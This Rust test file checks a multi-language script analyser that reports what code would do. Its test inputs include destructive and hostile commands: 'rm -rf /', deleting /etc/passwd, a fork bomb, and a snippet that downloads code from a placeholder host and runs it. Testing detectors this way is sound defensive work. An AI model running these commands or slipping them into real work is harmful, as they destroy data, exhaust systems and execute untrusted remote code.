//! What the reader promises as a whole; the rule files bring their own examples.

mod examples;
mod hostile;
mod shells;

use super::{Act, Language, acts};

/// An act in one line: its kind, then what it is about. Unknown text is `?`.
fn line(act: &Act) -> String {
    let shown = |text: &Option<String>| text.clone().unwrap_or_else(|| "?".to_owned());
    let text = match act {
        Act::Shell(text) => format!("shell {text}"),
        Act::Program(argv) => format!("program {}", argv.join("|")),
        Act::Code(_, text) => format!("code {text}"),
        Act::Read(path) => format!("read {path}"),
        Act::Write { path, text } => format!("write {path}: {}", shown(text)),
        Act::Append { path, text } => format!("append {path}: {}", shown(text)),
        Act::Delete { path, tree: true } => format!("delete-tree {path}"),
        Act::Delete { path, tree: false } => format!("delete {path}"),
        Act::Rename { from, to } => format!("rename {from} {to}"),
        Act::Chmod { path, mode } => format!("chmod {mode} {path}"),
        Act::Chown { path } => format!("chown {path}"),
        Act::Connect { to } => format!("connect {to}"),
        Act::Send { to, body } => format!("send {to}: {body}"),
        Act::Listen => "listen".to_owned(),
        Act::ShellOnSocket => "shell-on-socket".to_owned(),
        Act::Fetched => "fetched".to_owned(),
        Act::Env => "env".to_owned(),
        Act::Kill(pid) => format!("kill {pid}"),
        Act::Print(text) => format!("print {text}"),
        Act::ForkBomb => "fork-bomb".to_owned(),
        Act::Opaque(how) => format!("opaque {how}"),
        Act::Remote { verb } => format!("remote {verb}"),
    };
    text.replace('\0', "?").trim_end().to_owned()
}

fn lines(language: Language, source: &str) -> Vec<String> {
    acts(language, source, None, &[])
        .acts
        .iter()
        .map(line)
        .collect()
}

#[test]
fn an_interpreter_is_known_by_path_version_and_suffix() {
    for (name, language) in [
        ("python3.11", Some(Language::Python)),
        ("/usr/bin/python", Some(Language::Python)),
        ("pypy3", Some(Language::Python)),
        ("nodejs", Some(Language::JavaScript)),
        ("ruby2.7", Some(Language::Ruby)),
        ("lua5.4", Some(Language::Lua)),
        ("powershell.exe", Some(Language::PowerShell)),
        ("original-awk", Some(Language::Awk)),
        ("tclsh8.6", Some(Language::Tcl)),
        ("Rscript", Some(Language::R)),
        ("jshell", Some(Language::Java)),
        ("rm", None),
        ("r", None),
        ("python-config", None),
    ] {
        assert_eq!(Language::of_program(name), language, "{name}");
    }
}

#[test]
fn comments_strings_and_docstrings_do_nothing() {
    assert_eq!(
        lines(
            Language::Python,
            "# os.system('ls')\n'''os.system(1)'''\nx = 1"
        ),
        [""; 0]
    );
    assert_eq!(
        lines(Language::JavaScript, "/* exec('ls') */ // eval('x')"),
        [""; 0]
    );
    assert_eq!(
        lines(Language::Perl, "=pod\nsystem 'ls'\n=cut\n# `ls`\n1;"),
        [""; 0]
    );
    assert_eq!(
        lines(Language::Ruby, "=begin\nsystem 'ls'\n=end\nx = 'system'"),
        [""; 0]
    );
}

#[test]
fn a_printed_command_is_only_printed() {
    for (language, source) in [
        (Language::Python, "print('rm -rf /')"),
        (Language::JavaScript, "console.log(`rm -rf /`)"),
        (Language::Perl, "print 'rm -rf /'"),
        (Language::Ruby, "puts 'rm -rf /'"),
        (Language::Php, "echo 'rm -rf /';"),
        (Language::Awk, "BEGIN { print \"rm -rf /\" }"),
        (Language::Lua, "print('rm -rf /')"),
        (Language::PowerShell, "Write-Output 'rm -rf /'"),
        (Language::Tcl, "puts {rm -rf /}"),
        (Language::R, "cat('rm -rf /')"),
        (Language::Java, "println 'rm -rf /'"),
    ] {
        assert_eq!(lines(language, source), ["print rm -rf /"], "{source}");
    }
}

#[test]
fn a_method_of_another_object_is_not_the_library_function() {
    for (language, source) in [
        (
            Language::Python,
            "items = ['a']; items.remove('a'); model.eval(); game.system('x')",
        ),
        (
            Language::JavaScript,
            "/a/.exec('rm -rf /'); new Map().delete('x'); el.remove()",
        ),
        (
            Language::Ruby,
            "{a: 1}.delete(:a); conn.exec('select 1'); 'abc'.delete('a')",
        ),
        (
            Language::Php,
            "$pdo->exec('select 1'); $model->unlink('a');",
        ),
        (Language::Perl, "$sth->execute('x'); delete $h{a};"),
        (Language::Lua, "task:execute('ls') table.remove(t, 1)"),
    ] {
        assert_eq!(lines(language, source), [""; 0], "{source}");
    }
}

#[test]
fn a_name_the_script_defines_itself_is_its_own() {
    assert_eq!(
        lines(Language::Python, "def rmtree(p): pass\nrmtree('/')"),
        [""; 0]
    );
    assert_eq!(
        lines(Language::Ruby, "def system(c); end; system 'ls'"),
        [""; 0]
    );
}

#[test]
fn unknown_pieces_stay_in_their_place() {
    let source = "import os; os.system('rm -rf /tmp/' + name + '/cache')";
    assert_eq!(
        lines(Language::Python, source),
        ["shell rm -rf /tmp/?/cache"]
    );
    assert_eq!(
        lines(Language::Perl, "system(\"rm -rf \0\")"),
        ["shell rm -rf ?"]
    );
}

#[test]
fn both_sides_of_a_branch_are_possible() {
    let source = "import os\np = 'a'\nif x:\n    p = 'b'\nos.remove(p)";
    assert_eq!(lines(Language::Python, source), ["delete a", "delete b"]);
}

#[test]
fn too_many_possibilities_are_unknown() {
    let source = "p='a'\nif x: p='b'\nif x: p='c'\nif x: p='d'\nif x: p='e'\nopen(p)";
    assert_eq!(lines(Language::Python, source), ["read ?"]);
}

#[test]
fn a_loop_over_known_elements_runs_for_each() {
    assert_eq!(
        lines(
            Language::JavaScript,
            "for (const d of ['/a', '/b']) fs.unlinkSync(d)"
        ),
        ["delete /a", "delete /b"]
    );
}

#[test]
fn a_function_runs_with_what_it_is_given_and_anyway_if_nobody_calls_it() {
    let source = "import os\ndef go(c): os.system(c)\ngo('ls')";
    assert_eq!(lines(Language::Python, source), ["shell ls"]);
    let source = "import os\ndef main():\n    os.system('ls')";
    assert_eq!(lines(Language::Python, source), ["shell ls"]);
}

#[test]
fn standard_input_and_arguments_reach_what_reads_them() {
    let stdin = Some("rm -rf /\n");
    let run = |language, source: &str| -> Vec<String> {
        let args = ["/etc/passwd".to_owned()];
        acts(language, source, stdin, &args)
            .acts
            .iter()
            .map(line)
            .collect()
    };
    assert_eq!(
        run(
            Language::Python,
            "import os,sys; os.system(sys.stdin.read())"
        ),
        ["shell rm -rf /"]
    );
    assert_eq!(run(Language::Awk, "{ system($0) }"), ["shell rm -rf /"]);
    assert_eq!(run(Language::Awk, "{ print $1 }"), ["print rm"]);
    assert_eq!(
        run(Language::Perl, "unlink $ARGV[0]"),
        ["delete /etc/passwd"]
    );
    assert_eq!(
        run(Language::Python, "import sys; open(sys.argv[1])"),
        ["read /etc/passwd"]
    );
}

#[test]
fn text_written_piece_by_piece_is_one_file() {
    let source = "f = open('x.sh', 'w')\nf.write('rm -rf ')\nf.write('/')";
    assert_eq!(lines(Language::Python, source), ["write x.sh: rm -rf /"]);
}

#[test]
fn a_file_filled_from_the_network_is_fetched_code_when_it_runs() {
    let source = "import urllib.request as u, os\n\
                  u.urlretrieve('http://h/x', '/tmp/x'); os.system('sh /tmp/x')";
    assert!(lines(Language::Python, source).contains(&"fetched".to_owned()));
}

#[test]
fn a_clients_destructive_method_is_a_remote_act() {
    for (language, source) in [
        (
            Language::JavaScript,
            "const client = algoliasearch('a', 'k'); client.deleteIndex('p')",
        ),
        (Language::JavaScript, "algolia.clearObjects('products')"),
        (Language::Ruby, "gateway.customer.delete('id')"),
        (Language::Ruby, "Braintree::Customer.delete('id')"),
        (
            Language::Python,
            "import boto3; boto3.client('s3').delete_bucket(Bucket='p')",
        ),
    ] {
        let found = lines(language, source);
        assert!(
            found.iter().any(|line| line.starts_with("remote ")),
            "{source}: {found:?}"
        );
    }
}

#[test]
fn local_containers_and_http_routes_are_no_remote_act() {
    for (language, source) in [
        (
            Language::JavaScript,
            "const m = new Map(); m.delete('x'); m.clear(); cache.clear()",
        ),
        (
            Language::JavaScript,
            "new URLSearchParams().delete('a'); localStorage.clear()",
        ),
        (
            Language::Python,
            "client.delete('/todos/1'); d = {}; d.clear()",
        ),
        (Language::Ruby, "h = {}; h.delete(:a); h.clear"),
    ] {
        assert_eq!(lines(language, source), [""; 0], "{source}");
    }
}

#[test]
fn forking_without_an_end_is_told_from_a_server_that_forks() {
    assert_eq!(
        lines(Language::Python, "import os\nwhile 1: os.fork()"),
        ["fork-bomb"]
    );
    let server = "import os, socket\ns = socket.socket(); s.bind(('', 1)); s.listen()\n\
                  while True:\n    c, a = s.accept()\n    if os.fork() == 0: c.send(b'hi')";
    assert!(!lines(Language::Python, server).contains(&"fork-bomb".to_owned()));
}
